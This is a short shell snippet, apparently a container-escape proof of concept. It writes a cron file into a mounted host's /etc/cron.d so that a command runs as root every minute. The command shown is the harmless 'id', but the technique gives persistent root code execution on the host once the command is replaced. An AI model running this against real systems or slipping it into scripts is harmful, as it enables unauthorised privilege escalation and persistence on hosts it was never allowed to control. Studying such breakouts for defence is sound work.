ROOT=/host
T=$ROOT/etc/cron.d
echo "* * * * * root id" > "$T/x"
